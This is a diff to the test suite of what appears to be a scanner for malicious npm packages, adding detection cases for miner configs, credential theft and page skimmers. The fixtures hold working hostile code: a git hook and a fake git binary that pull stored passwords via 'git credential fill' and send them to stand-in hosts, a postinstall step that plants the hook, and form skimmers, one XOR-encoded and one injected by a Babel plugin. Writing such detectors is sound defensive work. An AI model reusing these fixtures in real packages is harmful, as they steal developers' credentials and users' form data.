@@ -264,3 +264,177 @@ describe('credentials read through getters on exports and through descriptors (r
     expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
   });
 });
+
+describe('a miner configuration whatever its keys are called (round 89)', () => {
+  const pkg = (yml: string) => ({
+    'package.json': manifest('pixel-resample'),
+    'index.js': "module.exports = require('./lib/resample');",
+    'lib/resample.js': 'module.exports = (img) => img;',
+    'config/accel.yml': yml,
+  });
+  it('reports a Monero wallet beside a pool host and port, and the miner flag in a list', () => {
+    const wallet = `48${'Ab3Cd4Ef5Gh6Jk7Mn8Pq9Rs2Tu3Vw4Xy5Za'.repeat(3).slice(0, 93)}`;
+    expect(wallet).toHaveLength(95);
+    const a = analyzeSource(
+      pkg(`profile:\n  endpoint: pool.cpu-sync.example:443\n  account: ${wallet}\n  label: px\n`),
+    );
+    expect(ruleOf(a, 'file.miner-config')?.threat_type).toBe('malicious_code');
+    const b = analyzeSource(pkg('runner:\n  flags: [--tls, --no-color, --donate-level=0]\n'));
+    expect(ruleOf(b, 'file.miner-config')).toBeDefined();
+  });
+  it('leaves a service configuration with hosts and long keys alone', () => {
+    const r = analyzeSource(
+      pkg(
+        'server:\n  listen: api.example.com:8443\n  key: 8f2b6c1d9e0a7b3c5d4e6f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2\n',
+      ),
+    );
+    expect(ruleOf(r, 'file.miner-config')).toBeUndefined();
+  });
+});
+
+describe('credentials a command prints, however the script reaches them (round 90)', () => {
+  const hook = [
+    '#!/bin/sh',
+    'remote="$1"',
+    '(',
+    '  H=$(git config --get remote."$remote".url | sed -E \'s#^(https?://|git@)([^/:]+).*#\\2#\')',
+    '  C=$(printf \'protocol=https\\nhost=%s\\n\\n\' "$H" | GIT_TERMINAL_PROMPT=0 git credential fill 2>/dev/null)',
+    "  P=$(printf '%s\\n' \"$C\" | sed -n 's/^password=//p')",
+    '  if [ -n "$P" ]; then',
+    '    curl -fsS -m 8 -o /dev/null "https://hooks-cdn.example/v2/version" \\',
+    '      -H "x-hook-ref: $(printf \'%s@%s\' "$P" "$H" | base64 | tr -d \'\\n\')"',
+    '  fi',
+    ') >/dev/null 2>&1 &',
+    'exit 0',
+  ].join('\n');
+  const installer = (dir: string) => ({
+    'package.json': manifest('conventional-hooks', { scripts: { postinstall: 'node index.js' } }),
+    'index.js': [
+      "const fs = require('fs');",
+      "const path = require('path');",
+      "const { execFileSync } = require('child_process');",
+      "const top = execFileSync('git', ['rev-parse', '--show-toplevel']).toString().trim();",
+      `const dest = path.join(top, '${dir}');`,
+      'fs.mkdirSync(dest, { recursive: true });',
+      "for (const name of fs.readdirSync(path.join(__dirname, 'hooks'))) {",
+      '  const target = path.join(dest, name);',
+      "  fs.copyFileSync(path.join(__dirname, 'hooks', name), target);",
+      '  fs.chmodSync(target, 0o755);',
+      '}',
+      `execFileSync('git', ['config', 'core.hooksPath', '${dir}'], { cwd: top });`,
+    ].join('\n'),
+    'hooks/pre-push': hook,
+  });
+  it('reads the credential through substitutions that hold parentheses of their own', () => {
+    const r = analyzeSource(installer('.githooks'));
+    expect(ruleOf(r, 'script.env-exfil')?.message).toContain('git credential fill');
+  });
+  it('reports the hook planted in a custom hooks folder by what it does', () => {
+    const r = analyzeSource(installer('.githooks'));
+    expect(ruleOf(r, 'js.write-persistence')?.confidence).toBeGreaterThanOrEqual(0.85);
+    expect(r.risk_level).toBe('critical');
+  });
+});
+
+describe('a program that shadows git (round 91)', () => {
+  const shim = (bin: Record<string, string>, send: string) => ({
+    'package.json': manifest('commit-msg-guard', { bin }),
+    'index.js': 'module.exports = (msg) => /^(feat|fix|chore)/.test(msg);',
+    'bin/git.js': [
+      '#!/usr/bin/env node',
+      "const { spawnSync } = require('child_process');",
+      "const https = require('https');",
+      "const path = require('path');",
+      "const real = () => { for (const d of (process.env.PATH || '').split(path.delimiter)) if (!d.includes('node_modules')) return path.join(d, 'git'); return 'git'; };",
+      'const git = real();',
+      'const argv = process.argv.slice(2);',
+      "if (argv.includes('push')) {",
+      "  const r = spawnSync(git, ['credential', 'fill'], { input: 'protocol=https\\nhost=github.com\\n\\n', encoding: 'utf8' });",
+      `  ${send}`,
+      '}',
+      "process.exit(spawnSync(git, argv, { stdio: 'inherit' }).status ?? 1);",
+    ].join('\n'),
+  });
+  const post =
+    "const req = https.request({ host: 'hooks.commit-guard.example', path: '/t', method: 'POST' }); req.end(Buffer.from(r.stdout).toString('base64'));";
+  it('reports the stored git password sent by a bin named git', () => {
+    const r = analyzeSource(shim({ 'commit-msg-guard': 'index.js', git: 'bin/git.js' }, post));
+    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence).toBeGreaterThanOrEqual(0.8);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('keeps the same program under its own name a user runs below a warning', () => {
+    const r = analyzeSource(shim({ 'commit-msg-guard': 'bin/git.js' }, post));
+    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence ?? 0).toBeLessThan(0.5);
+  });
+  it('leaves the credential used as the request header alone', () => {
+    const r = analyzeSource(
+      shim(
+        { 'commit-msg-guard': 'index.js', git: 'bin/git.js' },
+        "const token = /password=(.*)/.exec(r.stdout)[1]; https.request({ host: 'api.github.example', path: '/user', headers: { authorization: 'token ' + token } }).end();",
+      ),
+    );
+    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence ?? 0).toBeLessThan(0.8);
+  });
+});
+
+describe('form values XOR-encoded before they leave the page (round 90)', () => {
+  it('keeps the taint of character codes through arithmetic', () => {
+    const r = analyzeSource({
+      'package.json': manifest('formguard-validate'),
+      'index.js': [
+        'var store = {};',
+        'function onInput(e) { var el = e.target; if (el && "value" in el) store[el.name || el.id] = el.value; }',
+        'function flush() {',
+        '  var json = JSON.stringify(store), key = "fg4", out = "";',
+        '  for (var i = 0; i < json.length; i++) out += String.fromCharCode(json.charCodeAt(i) ^ key.charCodeAt(i % key.length));',
+        '  var px = new Image(1, 1);',
+        '  px.src = "https://" + String.fromCharCode(99, 100, 110, 46, 101, 120) + ".example/p.gif?d=" + encodeURIComponent(btoa(out));',
+        '  store = {};',
+        '}',
+        'document.addEventListener("input", onInput, true);',
+        'window.addEventListener("pagehide", flush);',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.page-secret-exfil')?.threat_type).toBe('data_exfiltration');
+    expect(r.risk_level).toBe('critical');
+  });
+});
+
+describe('code a Babel plugin inserts into the files it compiles (round 91)', () => {
+  const plugin = (code: string) => ({
+    'package.json': manifest('babel-plugin-react-auto-display-name', { main: 'lib/index.js' }),
+    'lib/index.js': [
+      "const runtime = require('./runtime');",
+      'module.exports = function ({ types: t, template }) {',
+      '  const assign = template.statement(`NAME.displayName = LABEL;`);',
+      '  return {',
+      '    visitor: {',
+      '      Program: { exit(path, state) {',
+      "        if (process.env.NODE_ENV === 'production' && /checkout|login/.test(state.filename || ''))",
+      "          path.unshiftContainer('body', template.statements.ast(runtime()));",
+      '      } },',
+      '      FunctionDeclaration(path) { path.insertAfter(assign({ NAME: t.identifier(path.node.id.name), LABEL: t.stringLiteral(path.node.id.name) })); },',
+      '    },',
+      '  };',
+      '};',
+    ].join('\n'),
+    'lib/runtime.js': `const T = [${[...code].map((c) => c.charCodeAt(0)).join(',')}];\nmodule.exports = () => String.fromCharCode.apply(null, T);`,
+  });
+  it('reads the inserted code as page code and reports the skimmer', () => {
+    const r = analyzeSource(
+      plugin(
+        'document.addEventListener("submit", function (e) { var d = {}; new FormData(e.target).forEach(function (v, k) { d[k] = String(v); }); navigator.sendBeacon("https://cdn-metrics.example/v", JSON.stringify(d)); }, true);',
+      ),
+    );
+    expect(ruleOf(r, 'js.page-secret-exfil')?.threat_type).toBe('data_exfiltration');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves a plugin that inserts a development warning alone', () => {
+    const r = analyzeSource(
+      plugin(
+        'if (typeof console !== "undefined") console.warn("React components compiled for development");',
+      ),
+    );
+    expect(threats(r)).toEqual([]);
+  });
+});
